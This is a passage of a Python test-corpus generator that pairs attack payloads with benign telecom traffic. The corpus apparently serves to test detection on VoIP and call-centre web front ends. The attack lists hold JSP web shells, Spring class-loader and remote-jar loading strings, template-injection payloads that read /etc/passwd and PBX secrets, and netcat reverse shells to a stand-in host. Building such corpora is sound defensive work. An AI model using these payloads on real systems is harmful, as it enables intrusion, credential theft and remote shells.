    "T(org.springframework.util.Base64Utils).decodeFromString('yv66vgAAADQA'),"
    "T(java.lang.Thread).currentThread().getContextClassLoader())",
    "new javax.management.loading.MLet().addURL('http://203.0.113.5/x.jar')",
    "Class.forName(\"Exploit\",true,new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL"
    "(\"http://203.0.113.5/\")}))",
    "java.lang.reflect.Proxy.newProxyInstance(ClassLoader.getSystemClassLoader(),null,null)",
    "yv66vgAAADQAHgoABgARCQASABMIABQKABUAFgcAFwcAGAEABjxpbml0PgEAAygpVgEABENvZGUBAA9MaW5l",
    "sun.misc.Unsafe.defineAnonymousClass",
    "java.lang.invoke.MethodHandles.lookup().defineClass(bytes)",
    "com.sun.org.apache.bcel.internal.util.ClassLoader",
    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dV$cb$5b$TW$U$ff$5d$c8$M",
] + _fx([
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i",
    "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
    "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT",
    "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar",
    "class.classLoader.URLs[0]=jar:http://203.0.113.5/x.jar!/",
    "class.module.classLoader.DefaultAssertionStatus=nonsense",
    "class['classLoader'].resources.context.parent.pipeline.first.fileDateFormat=",
], KV)

# jsp-upload: JSP web shells uploaded as "custom ringtone", "firmware" or "hold music" files to Java UC products
JSP_SHELL = ('<%@ page import="java.io.*" %><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));'
             'InputStream in=p.getInputStream();int c;while((c=in.read())!=-1){out.print((char)c);} %>')
JSP: list[Entry] = _fx([
    "ringtone.jsp",
    "holdmusic.wav.jsp",
    "firmware.jspx",
    "shell.jsp%00.wav",
    "../../webapps/ROOT/cmd.jsp",
    "SEP001122334455.cnf.jsp",
    "voicemail.JsP",
    "greeting.jsp;.wav",
    "cmd.jspf",
    "x.jsp ",
], UP) + [
    JSP_SHELL,
    "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
    "<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"cmd\"));</jsp:scriptlet>",
    "<%@ page import=\"java.util.*,java.io.*\"%><% if(request.getParameter(\"cmd\")!=null){Process p="
    "Runtime.getRuntime().exec(request.getParameter(\"cmd\"));} %>",
    "<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"x\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()%>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:scriptlet>"
    "new java.lang.ProcessBuilder(request.getParameter(\"c\")).start();</jsp:scriptlet></jsp:root>",
    "<%! public void jspInit(){try{Runtime.getRuntime().exec(\"id\");}catch(Exception e){}} %>",
]

# ================================================================================================================
# ssti (a list per engine): template engines that render voicemail-to-email bodies, SMS templates, IVR prompts,
# CDR report headers, phone provisioning templates and customer self-care greeting pages
# jinja2: Python/Jinja2 (Flask SMS gateways, Wazo's provisioning templates, VoIP self-care portals)
JINJA2: list[Entry] = [
    "{{7*'7'}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('cat /etc/asterisk/sip.conf').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
    "{{c()._module.__builtins__['__import__']('os').system('id')}}{% endif %}{% endfor %}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{joiner.__init__.__globals__.os.system('reboot')}}",
]
# twig: PHP/Twig (Issabel 5 / PHP call-centre dashboards, SMS campaign templates)
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/amportal.conf']|map('passthru')}}",
    "{{['id',0]|sort('system')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{[0]|reduce('system','id')}}",
    "{{_self.env.setCache('ftp://203.0.113.5:21')}}{{_self.env.loadTemplate('backdoor')}}",
    "{{dump(app)}}",
]
# freemarker: Java/FreeMarker (Java provisioning servers, Avaya/Cisco reporting templates)
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "\"id\").start()}",
    "<#assign jy=\"freemarker.template.utility.JythonRuntime\"?new()><@jy>import os;os.system('id')</@jy>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(' ')}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "${object.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "<#list .data_model?keys as k>${k}</#list>",
    "${.version}${7*7}",
]
# velocity: Java/Velocity (SIP servlet admin consoles, Java CDR report templates)
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($ex=$rt.getRuntime().exec('id'))",
    "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"id\")",
    "#set($s=$request.getClass().getClassLoader())",
    "$request.getSession().getServletContext().getRealPath('/')",
    "#foreach($i in [1..99999999])#end",
    "#set($p=$class.inspect('java.lang.ProcessBuilder'))",
    "$ex.waitFor() #set($out=$ex.getInputStream())",
    "#set($str=$class.inspect('java.lang.String').type)#set($ex=$class.inspect('java.lang.Runtime').type"
    ".getRuntime().exec('whoami'))",
]
# thymeleaf: Java/Thymeleaf (Spring Boot carrier self-care portals; view names from the lang/section parameter)
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
    "__|$${T(java.lang.Runtime).getRuntime().exec('id')}|__::.x",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/t')}__}",
    "__${#ctx.getVariable('request').getSession()}__::",
]
# erb: Ruby/ERB (Rails number-porting and self-care apps rendering SMS/email templates)
ERB_L: list[Entry] = [
    "<%= 7*7 %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= `ls /var/spool/asterisk/voicemail` %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV.to_h %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<% exec('/bin/sh') %>",
    "<%= Rails.application.secrets.secret_key_base %>",
]
# smarty: PHP/Smarty (Elastix and Issabel themes render with Smarty; VICIdial forks with Smarty agent screens)
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}system('id');{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{if system('cat /etc/elastix.conf')}{/if}",
    "{$smarty.version}",
    "{self::getStreamVariable('file:///etc/passwd')}",
    "{passthru('asterisk -rx \"sip show peers\"')}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
    "{function name='x'}{/function}{shell_exec('id')}",
    "{fetch file='file:///etc/amportal.conf'}",
]
# handlebars: Node.js/Handlebars (WebRTC softphone UIs and SMS gateway message templates)
HANDLEBARS: list[Entry] = [
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
    "\"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply"
    " 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'constructor'}}",
    "{{constructor.constructor 'return process.env'}}",
    "{{#each (lookup this '__proto__')}}{{@key}}{{/each}}",
    "{{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
    "{{#with (lookup this 'constructor') as |c|}}{{c.constructor 'return process.exit()'}}{{/with}}",
    "{{{__proto__.constructor.constructor 'return global.process.mainModule'}}}",
]
# pug: Node.js/Pug (Express-based PBX dashboards and call-recording portals)
PUG: list[Entry] = [
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- var x = root.process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('nc 203.0.113.5 4444 -e /bin/sh')}()}",
    "= process.mainModule.require('fs').readFileSync('/etc/asterisk/manager.conf')",
    "#{7*7}#{process.env}",
    "!{global.process.mainModule.require('child_process').spawnSync('id').stdout}",
    "p= require('child_process').execSync('id')",
    "- global.process.exit()",
    "#{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}",
]
# mako: Python/Mako (Python-based provisioning servers and Pylons-era billing portals)
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system('id')}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('cat /etc/passwd').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.template.module.runtime.util.os.popen('id').read()}",
    "${context.get('local').cache.util.os.system('id')}",
    "<%namespace file=\"/etc/passwd\" import=\"*\"/>",
    "% for a in __import__('os').listdir('/var/spool/asterisk/monitor'):\n${a}\n% endfor",
    "${ __import__('subprocess').Popen('reboot',shell=True) }",
]
# tornado: Python/Tornado (Tornado websocket signalling servers and SMS dashboards)
TORNADO: list[Entry] = [
    "{% import os %}{{os.popen('id').read()}}",
    "{% import subprocess %}{{subprocess.check_output('cat /etc/passwd',shell=True)}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').system('id') %}",
    "{% module __import__('os').system('id') %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{__import__('os').environ}}",
    "{% set x = __import__('os').popen('uname -a').read() %}{{x}}",
]
# nunjucks: Node.js/Nunjucks (Node UC dashboards, notification templates)
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return require('fs').readFileSync('/etc/passwd','utf8')\")()}}",
    "{{''.constructor.constructor(\"return process\")().exit()}}",
    "{{range.constructor('return this.process.mainModule.require(\"child_process\")"
    ".execSync(\"tail /etc/passwd\")')()}}",
    "{% set x = range.constructor(\"return process.mainModule.require('child_process')\")() %}{{x.execSync('id')}}",
    "{{[].constructor.constructor('return process.version')()}}",
    "{{lipsum.constructor('return global.process')()}}",
    "{{dump(this)}}",
]
# ejs: Node.js/EJS (Express SMS gateway admin pages; settings[view options] abuse through query pairs)
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%= process.mainModule.require('fs').readFileSync('/etc/asterisk/sip.conf') %>",
    "<%- include('/etc/passwd') %>",
    "<% require('child_process').exec('nc 203.0.113.5 4444 -e /bin/sh') %>",
    "<%= this.constructor.constructor('return process.env')() %>",
    "<%= global.process.exit() %>",
] + _fx([
    "settings[view options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
    "settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process.mainModule"
    ".constructor._load('child_process').execSync('id');",
    "settings[view options][localsName]=x;process.mainModule.require('child_process').execSync('id');//",
], KV)
# pebble: Java/Pebble (Java carrier portals and provisioning templates)
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ ''.class.forName('java.lang.ProcessBuilder') }}",
    "{{ request.getClass().getClassLoader() }}",
    "{% for c in beans %}{{ c }}{% endfor %}",
    "{{ (1).TYPE.forName('java.lang.System').getenv() }}",
    "{{ 'x'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js')"
    ".eval('java.lang.Runtime.getRuntime().exec(\"id\")') }}",
    "{{ beans.get('environment').getProperty('spring.datasource.password') }}",
    "{{ response.getClass().forName('java.lang.Runtime').getRuntime().exec('reboot') }}",
]
# razor: ASP.NET Razor (Windows-hosted 3CX web tools, .NET call-centre report builders)
RAZOR: list[Entry] = [
    "@(7*7)",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://203.0.113.5/x\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\ProgramData\\\\3CX\\\\Instance1\\\\Bin\\\\3CXPhoneSystem.ini\")",
    "@System.Environment.GetEnvironmentVariables()",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd\"; p.Start(); }",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
    "@Html.Raw(System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\"))",
    "@System.Environment.MachineName @System.Environment.UserName",
]
# go-templates: Go text/template and html/template (Go SIP proxies' web UIs, Go SMS gateways)
GO_TPL: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ .Config.AMISecret }}",
    "{{range .Users}}{{.Password}}{{end}}",
    "{{ .System \"id\" }}",
    "{{ .Exec \"cat /etc/passwd\" }}",
    "{{define \"T1\"}}{{.}}{{end}}{{template \"T1\" .Env}}",
    "{{ .ReadFile \"/etc/kamailio/kamctlrc\" }}",
    "{{ call .Func \"id\" }}",
    "{{js .Secret}}{{html .Token}}",
]
# liquid: Ruby/Shopify Liquid and LiquidJS (SMS marketing and self-care notification templates)
LIQUID: list[Entry] = [
    "{{ 'id' | system }}",
    "{% include '/etc/passwd' %}",
    "{% render '../../../../etc/passwd' %}",
    "{{ self.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    "{% assign x = 'a' | append: 'b' %}{{ x.constructor.constructor('return process.env')() }}",
    "{{ settings | json }}",
    "{% for i in (1..99999999) %}{% endfor %}",
    "{{ 7 | times: 7 }}{{ customer.password }}",
    "{% raw %}{{ x }}{% endraw %}{% include 'file:///etc/hosts' %}",
]

# ================================================================================================================
FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-internal-ip", SSRF_INT),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB_L),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]
# bracket and property-path pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "class-loading", "ejs"}

# the parameter names each kind of telecom front end takes its input under
SSRF_NAMES = ["provisioning_url", "callback_url", "dlr_url", "ringtone_url", "webhook", "moh_url", "avatar", "server"]
CODE_NAMES = ["dialrule", "extension", "callerid", "msg", "template", "filter", "lead_id", "pattern"]
INCLUDE_NAMES = ["display", "module", "lang", "page", "file", "menu"]
JAVA_NAMES = ["deviceName", "userid", "query", "data", "token", "expression", "name", "sipUserAgent"]
SSTI_NAMES = ["vm_body", "sms_template", "greeting", "subject", "report_title", "name", "message", "preview"]

# raw serialization bytes go where percent-encoding carries any byte
LATIN_CYCLES: Cycles = (("query", "form", "param-name"), ("rs-query", "rs-form", "rs-raw-body", "rs-param-name"))


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-param-name", "rs-raw-body")
    documents = True
    upload = JSP_SHELL
    unique = True

    def name(self, category: str, sub: str, k: int) -> str:
        if sub.startswith("ssrf"):
            names = SSRF_NAMES
        elif sub == "php-data-scheme":
            names = INCLUDE_NAMES
        elif category == "java":
            names = JAVA_NAMES
        elif category == "ssti":
            names = SSTI_NAMES
        else:
            names = CODE_NAMES
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload.startswith("\xac\xed\x00\x05")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return LATIN_CYCLES if self.is_latin(sub, payload) else super().cycles(category, sub, payload)

    def fits(self, place: str, v: str) -> bool:
        """Header-borne and path placements need a printable single-line ASCII value (the path: one segment, no
        query or fragment); XML no control characters but newline and tab."""
        if place == "path":
            return super().fits(place, v) and "/" not in v and "?" not in v and "#" not in v
        if place in ("xml", "rs-xml"):
            return all(ch >= " " or ch in "\n\t" for ch in v)
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: telecom engineers, call-centre supervisors and support staff talking about dial plans, SIP traces,
# trunks, queues, CDRs and outages; bios, searches, vendor links, recordings' and exports' file names, headers
CHAT = [
    "trunk to the carrier flapped again at 09:12, SIP OPTIONS got no reply for 3 cycles",
    "anyone else seeing 503 Service Unavailable from the Twilio trunk this morning?",
    "exten => _9NXXXXXX,1,Dial(PJSIP/${EXTEN:1}@carrier,60)",
    "same => n,Set(CALLERID(num)=4420711234567)",
    "the IVR still plays the old holiday greeting, can someone re-upload it in FreePBX?",
    "queue 600 has 14 callers waiting and only 3 agents logged in, can supervisors jump on?",
    "SIP/2.0 486 Busy Here from the Polycom, it is DND not a network issue",
    "INVITE sip:1001@10.0.0.2 SIP/2.0 then 401, then the re-INVITE with auth goes through fine",
    "Via: SIP/2.0/UDP 192.168.1.50:5060;branch=z9hG4bK776asdhds",
    "Contact: <sip:1002@192.168.1.51:5060;transport=udp>",
    "the CDR export for March is on the share, select * from cdr where disposition='NO ANSWER' for the missed ones",
    "SELECT src, dst, billsec FROM cdr WHERE calldate > '2024-03-01' ORDER BY billsec DESC LIMIT 20;",
    "asterisk -rx \"pjsip show endpoints\" shows 1004 as Unavailable, probably the phone lost power",
    "core show channels says 42 active calls, that's about normal for a Monday",
    "we moved provisioning to https, the Yealinks fetch y000000000028.cfg over TLS now",
    "the Cisco 7841s need SEPMAC.cnf.xml, the file name has to be uppercase MAC",
    "is the 169.254 address on the phone a DHCP failure? yes, link-local means it never got a lease",
    "reminder: the AWS metadata endpoint is blocked from the PBX VPC, IMDSv2 only on the new instances",
    "log4j was patched on the CUCM cluster in Jan 2022, see the Cisco advisory",
    "the Java heap on the Avaya reporting server hit 95% again, restarting the service tonight",
    "number porting for 0207 range is scheduled Thursday 06:00, carrier wants the LOA signed",
    "the USSD menu *123# times out after 20 seconds on some handsets",
    "SMS gateway returned 'delivery receipt: UNDELIV' for all Vodafone numbers overnight",
    "voicemail to email template says Hello {name}, you have a new message from {callerid}",
    "the greeting template uses {{ caller_name }} and {{ duration }}, both are filled by the mailer",
    "for the webhook we POST JSON with {\"from\": \"+447700900123\", \"body\": \"STOP\"}",
    "the Node softphone crashed with 'TypeError: Cannot read properties of undefined (reading 'sdp')'",
    "WebRTC calls fail behind the hotel wifi, ICE never gets a relay candidate, TURN server is needed",
    "jitter is 40ms and packet loss 2% on the branch link, MOS dropped to 3.6",
    "can we switch the codec order to opus,g722,ulaw for the softphones?",
    "the recording for ticket 4412 is in /var/spool/asterisk/monitor/2024/03/14/",
    "VICIdial list loader choked on the CSV, the phone column had spaces",
    "GOautodial agent screen freezes when the dispo popup opens, Chrome 124 only",
    "3CX update to v20 went fine, just had to re-approve the SBC",
    "Issabel backup runs at 02:00, the tar is about 4 GB with recordings",
    "Elastix box is end of life, migration plan is in the wiki",
    "the Ruby script that parses the carrier invoices broke after they changed the PDF layout",
    "perl -ne 'print if /NO ANSWER/' Master.csv | wc -l gives 311 missed calls yesterday",
    "the old billing CGI is Perl, nobody wants to touch it",
    "Thymeleaf template for the self-care portal has a typo in the Welsh translation",
    "Twig extension for the call report shows the wrong time zone, it uses UTC",
    "we render the SMS body with Jinja2, the {% if %} for the opt-out line is missing",
    "FreeMarker ${customer.name} shows blank when the account has no contact",
    "Velocity template for the invoice email: $invoice.total is formatted without decimals",
    "Handlebars {{#each calls}} loop in the dashboard is slow with 10k rows",
    "the Go proxy's status page template prints {{.Uptime}} in nanoseconds, fix incoming",
    "Liquid {{ customer.first_name }} in the SMS campaign came out empty for imported contacts",
    "prototype of the new queue wallboard is on staging, feedback welcome",
    "the registration storm after the power cut took the SBC to 100% CPU",
    "fail2ban blocked 212 IPs scanning port 5060 overnight, normal noise",
    "the SIP scanner user agent was friendly-scanner again",
    "please don't expose the AMI port 5038 to the internet, it stays on localhost",
    "the ARI app on 8088 is only bound to 127.0.0.1, the websocket goes through nginx",
    "outage report: carrier side, 11:02 to 11:40, 180 calls failed with 502 Bad Gateway",
    "the DID 4420 3000 1000 routes to the wrong ring group, fixing the inbound route",
    "call flow: IVR option 2 -> queue 601 -> voicemail after 5 minutes",
    "set the time condition for the bank holiday, Monday closed all day",
    "Avaya IP Office manager wants Java 8, the newer JRE breaks the applet",
    "the Cisco Unified CM admin page times out, tomcat restart fixed it",
    "ProcessBuilder in the CDR exporter now runs sox to convert wav to mp3",
    "Runtime memory on the reporting JVM is set to 4g, we can go to 6g",
    "we serialize the queue stats as JSON now, not Java serialization, it's much smaller",
    "ran the load test: 200 concurrent calls, no one-way audio, RTP ports 10000-20000 open",
    "eval of the new SBC vendor is next week, they support SIPREC",
    "anyone knows the default admin port for GOautodial? 443 behind the login page",
    "dialplan tip: use ${CALLERID(num):-4} to get the last four digits",
    "the music on hold file must be 8kHz mono wav or the PBX transcodes it every time",
    "the porting form needs the account number and the PIN from the losing carrier",
    "Kamailio dispatcher marked the second Asterisk as inactive, it was in maintenance",
    "SIP ALG on the customer router again, disabling it fixed the one-way audio",
    "the WebRTC gateway logs show 'DTLS handshake failed', the cert expired yesterday",
    "who owns the Node.js SMS microservice? it's leaking memory after the last deploy",
    "the regex for UK numbers in the form is ^(\\+44|0)7\\d{9}$, good enough for mobiles",
    "CDR billing job took 40 minutes, the index on calldate was missing",
    "customer says their phone shows 'No Service', provisioning URL is fine, the VLAN is wrong",
    "the Grandstream firmware 1.0.11.23 fixed the BLF issue",
    "can someone approve the change to the outbound route prefix 9?",
    "escalated ticket INC-20931 to the carrier, they see the INVITE but reply 404 Not Found",
    "voicemail PIN reset for ext 2045 done",
    "callback requests from the website land in queue 650 now",
    "the Ruby on Rails self-care app needs a gem bump for the new Rack",
    "the Python script that pulls CDRs from the API uses requests with a 30s timeout",
]
SEARCHES = [
    "ext 2045",
    "1001",
    "noc team",
    "voip engineer",
    "call centre supervisor",
    "asterisk",
    "freepbx admin",
    "sip trunk",
    "queue 600 agents",
    "billing",
    "porting desk",
    "avaya",
    "cisco cucm",
    "webrtc",
    "sms gateway",
    "O'Connor",
    "night shift",
    "team: Voice Platform",
    "support tier 2",
    "+44 20 7946 0958",
]
URLS = [
    "https://wiki.asterisk.org/wiki/display/AST/Dialplan",
    "https://docs.asterisk.org/Configuration/Interfaces/Asterisk-REST-Interface-ARI/",
    "https://www.freepbx.org/support/documentation/",
    "https://www.3cx.com/docs/manual/",
    "https://www.cisco.com/c/en/us/support/unified-communications/unified-communications-manager-callmanager/",
    "https://support.avaya.com/documents/",
    "https://www.vicidial.org/docs/",
    "https://www.rfc-editor.org/rfc/rfc3261",
    "https://www.voip-info.org/asterisk-cdr-csv/",
    "https://jira.example.com/browse/VOICE-1182",
    "https://status.twilio.com/",
    "https://webrtc.org/getting-started/overview",
    "https://kamailio.org/docs/modules/stable/modules/dispatcher.html",
    "https://support.yealink.com/en/portal/docList",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://www.ofcom.org.uk/phones-and-broadband/switching/number-porting",
]
PROSE = [
    "The dial plan routes 9 plus the national number to the primary trunk and fails over to the backup.",
    "A 408 Request Timeout means the far end never answered the INVITE within Timer B.",
    "Call recordings are kept 90 days, then archived to cold storage.",
    "Agents must set a disposition before taking the next call.",
    "Provisioning files are generated per MAC address and served over HTTPS.",
    "The SMS template supports the placeholders {first_name} and {balance}.",
    "CDR fields: calldate, clid, src, dst, dcontext, channel, duration, billsec, disposition.",
    "Number porting usually takes 10 working days once the LOA is accepted.",
    "The WebRTC client needs microphone permission and a TURN server for restrictive networks.",
    "Voicemail greetings must be recorded as 8 kHz mono WAV.",
    "The billing report runs at 01:00 UTC and emails the finance team.",
    "Outage: inbound calls to the support line failed between 14:05 and 14:22 due to a carrier fault.",
    "Queue strategy is ringall for sales and leastrecent for support.",
    "SIP credentials are rotated every 90 days; never share them in tickets.",
    "The USSD menu gives balance, top-up and roaming options.",
    "Java 17 is required for the new reporting server.",
]
PROFILES = [
    ("Ravi Patel", "VoIP engineer, Asterisk and Kamailio, Voice Platform team, Leeds"),
    ("Claire Dubois", "Call-centre supervisor, queues 600-650, Lyon"),
    ("Tomasz Zielinski", "SIP trunking and SBCs, network operations, Warsaw"),
    ("Ayesha Khan", "Number porting desk, Manchester"),
    ("Jon Murphy", "Unified communications admin (Cisco CUCM, Webex), Dublin"),
    ("Lucia Fernandez", "WebRTC softphone developer, Node.js, Madrid"),
    ("Mark Jensen", "Billing and CDR reporting, Java and SQL, Aarhus"),
    ("Nkechi Obi", "Tier 2 voice support, night shift, Lagos"),
    ("Sven Larsson", "Avaya Aura migration project lead, Gothenburg"),
    ("Hiro Tanaka", "SMS and USSD gateway team, Osaka"),
    ("Paula Reyes", "VICIdial administrator, outbound campaigns, Manila"),
    ("Ahmed Saleh", "3CX partner engineer, Cairo"),
]
UPLOAD_NAMES = [
    "queue600_wallboard_march.png",
    "cdr_export_2024-03.csv",
    "holiday_greeting_v2.wav",
    "moh_jazz_8khz_mono.wav",
    "sip_trace_INC-20931.pcap",
    "SEP001122334455.cnf.xml",
    "y000000000028.cfg",
    "LOA_signed_0207_range.pdf",
    "carrier_invoice_feb.pdf",
    "freepbx-backup-20240314.tar.gz",
    "dialplan_extensions_custom.conf.txt",
    "ivr_call_flow.drawio",
    "yealink_T46U_firmware_66.86.0.15.rom",
    "outage_report_2024-03-12.docx",
    "agent_rota_april.xlsx",
]
BENIGN_HEADERS = [
    ("Referer", "https://pbx.example.com/admin/config.php?display=queues"),
    ("Referer", "https://wiki.asterisk.org/wiki/display/AST/Dialplan"),
    ("Referer", "https://www.3cx.com/docs/manual/"),
    ("Accept-Language", "en-GB,en;q=0.9"),
    ("Cookie", "session=abc123; team=voice; lang=en"),
    ("X-Requested-With", "XMLHttpRequest"),
    ("Cache-Control", "no-cache"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("Accept", "application/json"),
    ("DNT", "1"),
    ("X-Forwarded-Proto", "https"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
